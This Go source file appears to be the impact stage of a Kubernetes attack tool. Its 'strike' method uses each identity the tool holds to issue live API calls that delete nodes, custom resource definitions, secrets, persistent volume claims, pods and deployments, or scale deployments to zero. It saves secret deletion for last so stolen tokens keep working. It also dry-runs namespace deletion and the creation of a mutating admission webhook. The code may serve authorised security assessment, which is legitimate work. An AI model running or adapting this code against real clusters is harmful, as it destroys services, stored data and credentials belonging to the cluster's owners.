package main

import (
	"maps"
	"net/http"
	"slices"
	"strings"
)

// strike destroys what can be destroyed, by anybody whom it became.
func (a *kubeAttack) strike() answer {
	tries := map[string][]string{
		"take nodes out":        {"DELETE /api/v1/nodes/node-" + a.n},
		"delete resource types": {"DELETE /apis/apiextensions.k8s.io/v1/customresourcedefinitions/things.example.com"},
		"delete a namespace":    {},
	}
	for _, space := range a.spaces() {
		core, apps := "/api/v1/namespaces/"+space, "/apis/apps/v1/namespaces/"+space
		for thing, way := range map[string][]string{
			"read configuration": {"GET " + core + "/configmaps/settings", "GET " + core + "/configmaps?fieldSelector=metadata.name%3Dsettings",
				"GET " + core + "/configmaps?watch=true&timeoutSeconds=1&fieldSelector=metadata.name%3Dsettings"},
			"delete secrets":       {"DELETE " + core + "/secrets/plain", "DELETE " + core + "/secrets"},
			"delete volume claims": {"DELETE " + core + "/persistentvolumeclaims/data", "DELETE " + core + "/persistentvolumeclaims"},
			"delete pods":          {"DELETE " + core + "/pods/worker", "DELETE " + core + "/pods", "POST " + core + "/pods/worker/eviction"},
			"stop a deployment":    {"PATCH " + apps + "/deployments/web/scale", "PUT " + apps + "/deployments/web/scale", "DELETE " + apps + "/deployments/web", "DELETE " + apps + "/deployments"},
			"delete a namespace":   {"DELETE /api/v1/namespaces/" + space + "?dryRun=All"}, // emptying it takes the server seconds
		} {
			tries[thing] = append(tries[thing], way...)
		}
	}
	// Secrets go last, for with one that has its token an identity goes.
	things := slices.Sorted(maps.Keys(tries))
	things = append(slices.DeleteFunc(things, func(thing string) bool { return thing == "delete secrets" }), "delete secrets")
	for _, thing := range things {
		for _, who := range a.all {
			for _, way := range tries[thing] {
				if method, path, _ := strings.Cut(way, " "); !a.seen[thing] {
					a.seen[thing] = a.tried(who, method, path)
				}
			}
		}
	}
	hook := "apiVersion: admissionregistration.k8s.io/v1\nkind: MutatingWebhookConfiguration\nmetadata: {name: hook-" + a.n + "}\n"
	for _, who := range a.all {
		path := "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations"
		a.seen["rewrite what is written"] = a.seen["rewrite what is written"] || a.mayTouch(who, "mutatingwebhookconfigurations") && a.did(who, http.MethodPost, path+"?dryRun=All", hook)
	}
	return a.seen
}

// tried says whether a call went through. What is not there any more was somebody's
// to delete.
func (a *kubeAttack) tried(who kubeWho, method, path string) bool {
	if !a.mayTouch(who, kubeResource(path)) {
		return false
	}
	switch method {
	case http.MethodPatch:
		return a.may(who, method, path, `{"spec": {"replicas": 0}}`)
	case http.MethodPut:
		status, _ := a.replace(who, path, func(text string) string { return text })
		return status == http.StatusOK
	case http.MethodPost:
		return a.may(who, method, path, "apiVersion: policy/v1\nkind: Eviction\nmetadata: {name: worker}\n")
	}
	return a.may(who, method, path, "")
}

// kubeResource is the resource that a path is about, in the words of rules.
func kubeResource(path string) string {
	path, _, _ = strings.Cut(path, "?")
	parts := strings.Split(strings.TrimPrefix(strings.TrimPrefix(path, "/apis/"), "/api/"), "/")
	parts = parts[slices.IndexFunc(parts, func(p string) bool { return strings.HasPrefix(p, "v1") })+1:]
	if len(parts) > 2 && parts[0] == "namespaces" {
		parts = parts[2:]
	}
	if len(parts) > 2 {
		return parts[0] + "/" + parts[2]
	}
	return parts[0]
}
